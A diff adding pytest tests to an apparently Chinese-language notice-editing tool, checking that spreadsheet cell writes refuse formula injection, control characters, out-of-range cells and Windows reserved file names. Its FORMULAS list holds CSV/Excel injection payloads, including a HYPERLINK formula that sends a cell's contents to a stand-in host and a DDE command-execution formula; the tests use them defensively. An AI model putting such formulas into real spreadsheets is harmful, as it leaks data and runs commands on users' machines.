@@ -537,3 +537,85 @@ def test_an_overview_read_just_after_a_write_is_not_kept(town: Path, monkeypatch
     desk.overview(town, on=on)
     desk.overview(town, on=on)
     assert len(loads) == 3
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&C5,"点这里")', '=cmd|" /C calc"!A0', "+1+2", "@SUM(A1)", "-2+3", " =1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_set_cell_refuses_a_value_excel_would_run_as_a_formula(town: Path, value: str) -> None:
+    csv_table, book = town / "notices" / f"{NOTICE}.csv", town / "notices" / "2026q2-finance.xlsx"
+    before = csv_table.read_bytes(), book.read_bytes()
+    refused = desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "D2", value)
+    assert refused.path is None
+    assert refused.problems[0].message.startswith("单元格不能以 =、+、-、@ 开头")
+    assert str(refused.problems[0].where) == f"notices/{NOTICE}.csv:2:D"
+    refused = desk.set_cell(town, "2026q2-finance", "notices/2026q2-finance.xlsx", "收支表", "D5", value)
+    assert refused.path is None and "会把它当成公式" in refused.problems[0].message
+    assert str(refused.problems[0].where) == "notices/2026q2-finance.xlsx[收支表]!D5"
+    assert (csv_table.read_bytes(), book.read_bytes()) == before
+
+
+def test_set_cell_refuses_a_leading_tab_or_return_and_keeps_numbers_and_a_lone_dash(town: Path) -> None:
+    csv_name, book = f"notices/{NOTICE}.csv", "notices/2026q2-finance.xlsx"
+    for value in ("\t=1+1", "\r=1+1"):
+        refused = desk.set_cell(town, NOTICE, csv_name, None, "D2", value)
+        assert refused.path is None and "制表符或回车" in refused.problems[0].message
+    for value in ("-12.5", "(12.5)", "+3", "-"):
+        assert desk.set_cell(town, NOTICE, csv_name, None, "D2", value).path is not None, value
+        line = (town / csv_name).read_text(encoding="utf-8-sig").splitlines()[1]
+        assert line.split(",")[4] == value  # after "3,069.00", which is quoted and holds a comma
+    assert desk.set_cell(town, "2026q2-finance", book, "收支表", "D5", "-12.5").path is not None
+    assert openpyxl.load_workbook(town / book)["收支表"]["D5"].value == -12.5
+    assert desk.set_cell(town, "2026q2-finance", book, "收支表", "D6", "-").path is not None
+    cell = openpyxl.load_workbook(town / book)["收支表"]["D6"]
+    assert cell.value == "-" and cell.data_type == "s"
+
+
+def test_set_cell_xlsx_stores_text_as_text(town: Path) -> None:
+    book = "notices/2026q2-finance.xlsx"
+    assert desk.set_cell(town, "2026q2-finance", book, "收支表", "B5", "税收（=合计）").path is not None
+    cell = openpyxl.load_workbook(town / book)["收支表"]["B5"]
+    assert cell.value == "税收（=合计）" and cell.data_type == "s"
+    refused = desk.set_cell(town, "2026q2-finance", book, "收支表", "B5", "a\x01b")
+    assert refused.path is None and "控制字符" in refused.problems[0].message
+
+
+def test_set_cell_refuses_a_cell_out_of_range_and_writes_nothing(town: Path) -> None:
+    csv_table, book = town / "notices" / f"{NOTICE}.csv", town / "notices" / "2026q2-finance.xlsx"
+    before = csv_table.read_bytes(), book.read_bytes()
+    lines = len(before[0].splitlines())
+    for cell, says in (
+        ("A200000", f"这个 CSV 只有 {lines} 行"),
+        (f"A{lines + 2}", f"最多只能在第 {lines + 1} 行添一行"),
+        ("H2", "最宽的一行只到 F 列，最多只能在 G 列添一列"),
+        ("A2\n", "写法不对"),
+    ):
+        refused = desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, cell, "1")
+        assert refused.path is None and says in refused.problems[0].message, cell
+    for cell, says in (("A1048577", "超出了表格的范围"), ("XFE1", "最多到 XFD 列"), ("D5\n", "写法不对")):
+        refused = desk.set_cell(town, "2026q2-finance", str(book.relative_to(town)), "收支表", cell, "1")
+        assert refused.path is None and says in refused.problems[0].message, cell
+    assert (csv_table.read_bytes(), book.read_bytes()) == before
+    # the row after the last and the column after the widest are still there to fill
+    assert desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, f"A{lines + 1}", "999").path is not None
+    assert desk.set_cell(town, NOTICE, f"notices/{NOTICE}.csv", None, "G2", "备注").path is not None
+    assert desk.set_cell(town, "2026q2-finance", str(book.relative_to(town)), "收支表", "XFD1048576", "1").path
+
+
+def test_table_grids_name_the_cells_shown_masked(town: Path) -> None:
+    dibao = desk.table_grids(town, "2026q2-dibao")[0]
+    shown = {f"{c}{n}": t for n, cells in dibao.rows for c, t in zip(dibao.columns, cells)}
+    assert dibao.masked and all("*" in shown[ref] for ref in dibao.masked)
+    assert not any("*" in text for ref, text in shown.items() if ref not in dibao.masked)
+
+
+@pytest.mark.parametrize("notice_id", ["con", "nul", "com3", "lpt7"])
+def test_write_notice_refuses_an_id_windows_keeps_for_a_device(town: Path, notice_id: str) -> None:
+    written = desk.write_notice(town, "guide", {"id": notice_id, "title": "指南"})
+    assert written.path is None and written.notice_id is None
+    assert written.problems[0].message == (
+        f"编号「{notice_id}」是 Windows 的保留名字，那里建不了这个文件。请换一个，比如 {notice_id}-2026。"
+    )
+    assert not list((town / "notices").glob(f"{notice_id}.*"))
+    assert desk.write_notice(town, "guide", {"id": f"{notice_id}-2026", "title": "指南"}).path is not None
